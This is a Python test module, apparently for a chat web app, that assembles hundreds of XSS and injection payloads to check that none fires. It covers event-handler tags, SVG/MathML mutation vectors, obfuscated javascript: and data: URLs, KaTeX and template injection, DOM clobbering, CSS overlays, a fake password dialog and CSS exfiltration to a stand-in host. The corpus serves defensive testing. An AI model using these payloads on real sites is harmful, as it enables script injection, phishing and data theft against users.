"""Texts that would run a script, load something, cover the page or leave it, if any layer let them.

All of them call ``alert``, ask ``FAR`` for something, or bring an element or attribute that the page must not
show. The page that shows them is watched by ``tests.attacks.sentinel``.
"""

from __future__ import annotations

from itertools import chain, product

from tests.playground.exchange.payloads import FAR
from tests.playground.exchange.payloads import PAYLOADS as FIRST

HOME = "/pg-leak"
"""An address of the playground itself that nothing asks for unless a payload loads it."""

# Every element that runs something by itself once it stands in a document.
SELF_STARTING = [
    f"<{tag} {attributes}>"
    for tag, attributes in [
        ("img", "src=x onerror=alert(1)"),
        ("img", "src=x:x onerror='alert(1)'"),
        ("img", 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert(1)"'),
        ("img", f"srcset='{FAR}.png 1x, {FAR}2.png 2x'"),
        ("img", f"src={HOME}.png"),
        ("image", "src=x onerror=alert(1)"),
        ("input", "type=image src=x onerror=alert(1)"),
        ("input", f"type=image src={FAR}.png"),
        ("svg", "/onload=alert(1)"),
        ("svg", "xmlns='http://www.w3.org/2000/svg' onload='alert(1)'"),
        ("video", "src=x onerror=alert(1)"),
        ("video", f"poster={FAR}.png"),
        ("audio", "src=x onerror=alert(1)"),
        ("body", "onpageshow=alert(1)"),
        ("body", f"background={FAR}.png"),
        ("table", f"background={FAR}.png"),
        ("iframe", "onload=alert(1)"),
        ("iframe", "srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'"),
        ("iframe", "src='data:text/html,<script>parent.alert(1)</script>'"),
        ("iframe", f"src='{HOME}'"),
        ("frameset", "onload=alert(1)"),
        ("object", "data='javascript:alert(1)'"),
        ("object", "data='data:text/html,<script>alert(1)</script>'"),
        ("object", "onerror=alert(1) data=x"),
        ("embed", "src='javascript:alert(1)'"),
        ("embed", f"src='{HOME}.swf'"),
        ("link", "rel=stylesheet href=x onerror=alert(1)"),
        ("link", f"rel=preload as=image href={FAR}.png"),
        ("link", f"rel=dns-prefetch href={FAR}"),
        ("link", f"rel=prefetch href={FAR}"),
        ("link", f"rel=icon href={FAR}.ico"),
        ("style", "onload=alert(1)"),
        ("script", f"src={HOME}.js"),
        ("script", f"type=module src={FAR}.mjs"),
        ("meta", f"http-equiv=refresh content='0;url={FAR}'"),
        ("meta", "http-equiv=refresh content='0;javascript:alert(1)'"),
        ("meta", "http-equiv=Set-Cookie content='playground=x'"),
        ("base", f"href='{FAR}/' target=_top"),
        ("details", "open ontoggle=alert(1)"),
        ("dialog", "open onclose=alert(1)"),
        ("marquee", "loop=1 onfinish=alert(1)"),
        ("textarea", "autofocus onfocus=alert(1)"),
        ("keygen", "autofocus onfocus=alert(1)"),
        ("a", "href=x autofocus onfocusin=alert(1)"),
        ("div", "contenteditable autofocus onfocus=alert(1)"),
        ("div", "style='animation-name:x' onanimationstart=alert(1)"),
        ("div", "popover id=p onbeforetoggle=alert(1)"),
        ("button", "formaction=javascript:alert(1)"),
        ("source", "srcset=x onerror=alert(1)"),
        ("track", "src=x onerror=alert(1)"),
        ("portal", f"src='{FAR}'"),
        ("xss", "onpointerover=alert(1) style=display:block"),
        ("x", "onfocus=alert(1) id=x tabindex=1"),
    ]
]
VECTORS = [
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style>*{background:url(" + FAR + ")}</style></svg>",
    f"<svg><filter><feImage href='{FAR}.svg'/></filter></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><rect width=99 height=99 /></a></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><script>alert(1)</script></desc></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<iframe><img title='</iframe><img src onerror=alert(1)>'></iframe>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<a><b><i><table><tr><td></a><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\fsrc=x\fonerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'//",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>/*`*/alert(1)//`</script>",
    "<style>@import '" + FAR + ".css';</style>",
    "<style>#pg-app{display:none}*{position:fixed;inset:0;background:url(" + FAR + ")}</style>",
    "<style>input[value^=a]{background:url(" + FAR + "?a)}</style>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>cover</div>",
    "<div style='position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px'>cover</div>",
    "<a href='" + FAR + "' style='position:fixed;inset:0;z-index:9999'>cover</a>",
    "<dialog open style='position:fixed;inset:0'>Sign in: <input type=password></dialog>",
    "<form action='/api/conversations' method=post><input type=password><button>x</button></form>",
    "<button form=x formaction='" + FAR + "'>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input type=text value=x onfocus=alert(1) autofocus accesskey=x>",
    "<label for=pg-input>x</label><input id=pg-input>",
]
SCHEMES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\\script:alert(1)",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://x%0aalert(1)",
    "javascript:/*https://x*/alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "ｊavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "vbscript:alert(1)",
    "VbScRiPt:alert(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "blob:null/alert",
    "filesystem:http://127.0.0.1:9/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "//127.0.0.1:9/x",
    "/\\127.0.0.1:9/x",
]
LINKS = ["[x]({})", "![x]({})", "<a href='{}'>x</a>", "[x][r]\n\n[r]: {}"]
LANGUAGES = [
    '"><img src=x onerror=alert(1)>',
    "'onmouseover='alert(1)",
    "html\u00a0onmouseover=alert(1)",
    "</code><img/src=x/onerror=alert(1)>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
    "constructor",
    'svg" style="position:fixed;inset:0',
    "mermaid",
    "math",
    "latex",
]
KATEX = [
    "\\href{javascript:alert(1)}{x}",
    "\\href{data:text/html,<script>alert(1)</script>}{x}",
    f"\\url{{{FAR}}}",
    "\\url{javascript:alert(1)}",
    f"\\includegraphics[height=9em]{{{FAR}.png}}",
    f"\\includegraphics{{{HOME}.png}}",
    "\\htmlClass{pg-toast}{x}",
    "\\htmlId{pg-app}{x}",
    "\\htmlData{x=alert(1)}{x}",
    "\\htmlStyle{position:fixed;inset:0;z-index:9999}{x}",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\unicode{<img src=x onerror=alert(1)>}",
    "\\color{red;background:url(http://127.0.0.1:9/x)}x",
    "\\colorbox{url(http://127.0.0.1:9/x)}{x}",
    "\\textcolor{#fff;position:fixed}{x}",
    "\\rule{9999em}{9999em}",
    "\\kern-9999em\\rule{20em}{20em}",
    "\\raisebox{9999em}{\\rule{20em}{20em}}",
    "\\hspace{-9999em}\\rule{20em}{20em}",
    "\\kern-20em" * 60 + "\\rule{20em}{20em}",
    "\\raisebox{20em}{" * 30 + "\\rule{20em}{20em}" + "}" * 30,
    "\\def\\x{\\x\\x}\\x",
    "\\newcommand{\\a}{\\a}\\a",
    "\\global\\def\\sin{\\href{javascript:alert(1)}{x}}\\sin",
    "\\tag{<script>alert(1)</script>}x",
    "\\begin{CD}A @>\\href{javascript:alert(1)}{x}>> B\\end{CD}",
    '\\char"3C\\text{script>alert(1)}',
]
TEMPLATES = [
    "${alert(1)}",
    "`${alert(1)}`",
    "${document.body.setAttribute(/x/.source,1)}${alert(1)}",
    "${eval(String.fromCharCode(97,108,101,114,116,40,49,41))}",
    "${HOME} ${value} ${this}",
    "{{alert(1)}}",
    "{{{alert(1)}}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{#with this}}{{lookup (lookup this 'constructor') 'constructor'}}{{/with}}",
    "{{value}}{{@children}}{{this}}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "@(alert(1))",
    "[[${alert(1)}]]",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "*{alert(1)}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "{@debug alert(1)}",
]
CLOBBERING = [
    f"<{tag} {attributes}>x</{tag}>"
    for tag, attributes in [
        ("a", "id=pg-app"),
        ("a", "id=pg-input name=pg-input"),
        ("form", "id=document><input name=cookie"),
        ("form", "name=fetch"),
        ("img", "name=getElementById"),
        ("img", "name=querySelector id=querySelector"),
        ("form", "id=location><input name=href value=javascript:alert(1)"),
        ("a", "id=gradio_config href=javascript:alert(1)"),
        ("a", "id=DOMPurify href=cid:x"),
        ("a", "id=katex name=katex"),
        ("iframe", "name=top"),
        ("object", "id=history name=pushState"),
        ("div", "id=__proto__"),
        ("div", "is=x-app slot=x part=x class=pg-toast"),
    ]
]
UNICODE = [
    "＜script＞alert(1)＜/script＞",
    "\ufeff<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<ımg src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c",
    "<img src=x onerror=\u2028alert(1)\u2029>",
    "\x1b[2J<script>alert(1)</script>",
]
BLOCKS = [
    "# {}",
    "{}\n===",
    "> {}",
    "- {}\n  - {}",
    "1. {}",
    "| a | {} |\n|---|---|\n| {} | b |",
    "**{}**",
    "~~{}~~",
    "`{}`",
    "    {}",
    "~~~{}\nx\n~~~",
    "[{}](https://ok.example/)",
    '[x](https://ok.example/ "{}")',
    '![{}](https://ok.example/x.png "{}")',
    "<https://ok.example/{}>",
    "https://ok.example/{}",
    "[{}]: https://ok.example/\n\n[{}]",
    "\\{}",
    "- [ ] {}",
    "[^1]\n\n[^1]: {}",
    "$${}$$",
    "\\({}\\)",
    "\\[{}\\]",
]
NESTED = [
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "<script>alert(1)</script>",
]


def _all() -> list[str]:
    links = (form.format(scheme) for form, scheme in product(LINKS, SCHEMES))
    fences = (f"```{language}\n<script>alert(1)</script>\n```" for language in LANGUAGES)
    maths = (text for tex in KATEX for text in (f"a ${tex}$ b", f"$$\n{tex}\n$$"))
    nested = (block.replace("{}", text) for block, text in product(BLOCKS, NESTED))
    families = [FIRST, SELF_STARTING, VECTORS, links, fences, maths, TEMPLATES, CLOBBERING, UNICODE, nested]
    return list(dict.fromkeys(chain.from_iterable(families)))


PAYLOADS = _all()


def sample(count: int) -> list[str]:
    """``count`` of them, or all, spread over every family."""
    step = max(1, len(PAYLOADS) // count)
    return PAYLOADS[::step]
